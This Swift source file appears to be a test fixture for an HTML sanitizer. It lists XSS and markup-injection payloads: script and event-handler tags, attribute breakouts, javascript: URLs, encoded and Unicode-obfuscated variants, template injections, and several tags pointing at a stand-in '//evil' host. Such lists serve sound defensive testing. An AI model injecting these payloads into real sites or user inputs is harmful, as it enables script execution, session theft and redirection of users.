/// Texts that try to leave their place on a page, in the manner of the OWASP and DOMPurify lists.
enum HostilePayloads {
  static let all: [String] = tags + attributes + encodings + templates + marks

  private static let tags = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<object data=x>",
    "<embed src=x>", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<a href=javascript:alert(1)>x</a>", "<form action=//evil><input name=a>",
    "<base href=//evil>", "<meta http-equiv=refresh content=0;url=//evil>",
    "<link rel=stylesheet href=//evil>", "<style>*{display:none}</style>", "</style><b>x",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</svg><script>alert(1)</script>", "</desc><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->", "--><script>alert(1)</script>", "<![CDATA[<b>]]>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<<b>b</b>",
    "<marquee onstart=alert(1)>", "<input autofocus onfocus=alert(1)>", "<template><b>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<x contenteditable>",
  ]

  private static let attributes = [
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"", "` onload=alert(1) `",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "\" style=\"position:fixed", "x\"/onclick=alert(1)//",
  ]

  private static let encodings = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3C;img src=x onerror=1&#x3E;",
    "%3Cscript%3E", "\\u003cscript\\u003e", "\u{FF1C}script\u{FF1E}", "<scr\u{0}ipt>alert(1)",
    "<\u{200B}script>", "<img\u{0C}src=x\u{0C}onerror=alert(1)>", "&quot; onload=alert(1)",
  ]

  private static let templates = [
    "{{token}}", "{{{svg}}}", "{{#stages}}x{{/stages}}", "{{> Style}}", "{{=<% %>=}}",
    "{{&svg}}", "{{%CONTENT_TYPE:TEXT}}",
  ]

  private static let marks = [
    "\"\u{0301} onmouseover=alert(1) x=\"\u{0301}", "<\u{0301}script>", "'\u{20E3} onclick=x '",
    "\u{0600}\" onload=alert(1)", "\"\u{200D} onload=alert(1)", "\"\u{FE0F} onload=alert(1)",
    "&\u{0301}lt;", ">\u{0338}<\u{0338}b>", "\u{202E}\"gnol tog sah", "\"\u{E0101}x=",
  ]
}
